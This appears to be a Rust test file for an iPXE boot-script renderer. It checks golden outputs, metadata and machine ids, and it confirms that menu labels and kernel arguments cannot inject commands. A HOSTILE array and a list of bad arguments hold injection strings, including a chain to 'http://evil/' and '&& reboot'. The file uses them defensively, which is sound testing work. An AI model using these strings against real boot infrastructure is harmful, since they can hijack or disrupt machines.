//! What devices are sent, word for word.

use model::{
    desired::{Menu, OnFailure},
    wire::Discovered,
};

use super::lab;
use crate::boot::{
    ipxe::{self, Error, LinuxBoot},
    metadata::{self, Metadata, Seed},
};

fn assert_golden(name: &str, text: &str) {
    let path = format!("{}/src/boot/testdata/{name}", env!("CARGO_MANIFEST_DIR"));
    let golden = std::fs::read_to_string(&path).unwrap_or_default();
    assert!(golden == text, "{path} should be:\n{text}<<<end");
}

fn linux(arguments: &str) -> Result<String, Error> {
    ipxe::render_linux(&LinuxBoot {
        device: &lab::name("pc-01"),
        mac: lab::MAC.parse().unwrap(),
        address: "10.77.0.10".parse().unwrap(),
        netmask: "255.255.255.0".parse().unwrap(),
        gateway: Some("10.77.0.254".parse().unwrap()),
        group: &"lab".parse().unwrap(),
        generation: 1,
        boot: &lab::boot_id(1),
        token: &"5".repeat(64),
        base_url: "http://10.77.0.1",
        on_failure: OnFailure::Retry,
        kernel_arguments: arguments,
    })
}

#[test]
fn scripts_are_written_as_in_the_golden_files() {
    let device = lab::name("pc-01");
    let chap = lab::chap();
    let target = "iqn.2026-01.org.clusterducks:device.pc-01".parse().unwrap();
    let server = "10.77.0.1".parse().unwrap();
    assert_golden("boot.ipxe", ipxe::BOOT_SCRIPT);
    assert_golden("linux.ipxe", &linux("console=ttyS0  quiet").unwrap());
    assert_golden("sanboot.ipxe", &ipxe::render_sanboot(&device, server, &target, &chap).unwrap());
    assert_golden("menu.ipxe", &ipxe::render_menu(&lab::menu(), lab::MAC.parse().unwrap()));
    assert_golden("waiting.ipxe", &ipxe::render_waiting(&stranger("ACME", "Box 1")));
    assert_golden(
        "failure.ipxe",
        &ipxe::render_failure("the image of group lab is still being imported"),
    );
    assert_golden("local-disk.ipxe", ipxe::LOCAL_DISK_SCRIPT);
    assert_golden("shell.ipxe", &ipxe::render_shell());
}

fn stranger(manufacturer: &str, product: &str) -> Discovered {
    Discovered {
        mac: lab::MAC.parse().unwrap(),
        uuid: String::new(),
        serial: String::new(),
        manufacturer: manufacturer.into(),
        product: product.into(),
        arch: String::new(),
        platform: String::new(),
        address: None,
        first_seen_ms: 0,
        last_seen_ms: 0,
    }
}

/// Texts that would be commands, settings, comments or continuations if iPXE were let to read them.
const HOSTILE: [&str; 7] = [
    "x\nreboot\n",
    "x && reboot",
    "x || reboot ; reboot",
    "${netX/mac} $${a} ${${b}}",
    "#comment # x",
    "ends in \\",
    "\r\nchain http://evil/\u{2028}x",
];

#[test]
fn no_label_can_make_a_command_a_setting_or_a_line() {
    for text in HOSTILE {
        let mut menu = lab::menu();
        menu.title = text.into();
        menu.entries[0].label = text.into();
        let plain = ipxe::render_menu(&Menu { title: "t".into(), ..lab::menu() }, lab::mac());
        let hostile = ipxe::render_menu(&menu, lab::mac());
        assert_eq!(hostile.lines().count(), plain.lines().count(), "{text:?}");
        let shown = ipxe::shown(text);
        assert!(!shown.contains("${") && !shown.ends_with('\\'), "{shown:?}");
        for word in shown.split(' ') {
            assert!(!["||", "&&", ";"].contains(&word) && !word.starts_with('#'), "{shown:?}");
        }
        assert!(hostile.contains(&format!("menu -- {shown}\nitem -- 0 {shown}\n")), "{hostile}");
        let waiting = ipxe::render_waiting(&stranger(text, text));
        assert_eq!(waiting.lines().count(), 10, "{waiting}");
        assert_eq!(waiting.matches("${").count(), 0, "{waiting}");
    }
}

#[test]
fn kernel_arguments_reach_the_device_as_they_are_or_not_at_all() {
    assert!(linux("foo=\"a;b\" x||y $HOME").unwrap().contains(" foo=\"a;b\" x||y $HOME || goto"));
    for bad in ["a && reboot", "a || b", "a ; b", "a=${mac}", "#a", "a\\", "a=ä", "a\u{0}b"] {
        assert!(matches!(linux(bad), Err(Error::Character { .. })), "{bad:?}");
    }
    assert!(matches!(linux(&"x".repeat(2000)), Err(Error::CommandLine(_))));
    assert!(!linux("a\nreboot\n").unwrap().contains('\u{0}'));
    assert!(linux("a\nreboot\n").unwrap().contains(" a reboot || goto failed\n"));
}

#[test]
fn metadata_is_written_as_in_the_golden_files() {
    let view = lab::view();
    let mut metadata = Metadata {
        device: view.document().device(&lab::name("pc-01")).unwrap(),
        boot: &lab::boot(1),
        server: "10.77.0.1".parse().unwrap(),
        root_partition: 2,
        seed: &Seed([7; 32]),
    };
    assert_golden("tmpfs.metadata", &metadata::render_metadata(&metadata));
    metadata.device = view.document().device(&lab::name("pc-02")).unwrap();
    metadata.root_partition = 0;
    assert_golden("vdisks.metadata", &metadata::render_metadata(&metadata));
}

#[test]
fn a_machine_id_is_stable_by_server_and_device_and_has_the_bits_of_a_random_uuid() {
    let id = metadata::machine_id(&Seed([7; 32]), &lab::name("pc-01"));
    assert_eq!(id, metadata::machine_id(&Seed([7; 32]), &lab::name("pc-01")));
    assert_ne!(id, metadata::machine_id(&Seed([8; 32]), &lab::name("pc-01")));
    assert_ne!(id, metadata::machine_id(&Seed([7; 32]), &lab::name("pc-02")));
    assert_eq!((id.len(), &id[12..13]), (32, "4"));
    assert!("89ab".contains(&id[16..17]));
}

#[test]
fn a_label_of_a_vdisk_fits_ext4() {
    let label = metadata::vdisk_label(&"home-01".parse().unwrap());
    assert!(label.len() <= 16 && label.starts_with("cd-"), "{label}");
}

#[test]
fn a_machine_waits_for_its_script_as_long_as_the_agent_counts_on() {
    let menu = ipxe::render_menu(&lab::menu(), lab::mac());
    let asks = [ipxe::BOOT_SCRIPT, &menu].map(|script| {
        let asks = script.lines().filter(|line| line.contains(" /boot/"));
        asks.map(str::to_owned).collect::<Vec<_>>()
    });
    let patience = format!(" --timeout {} /boot/", ipxe::SCRIPT_PATIENCE_MS);
    assert_eq!(asks.each_ref().map(Vec::len), [2, 1]);
    assert!(asks.iter().flatten().all(|line| line.contains(&patience)), "{asks:?}");
}
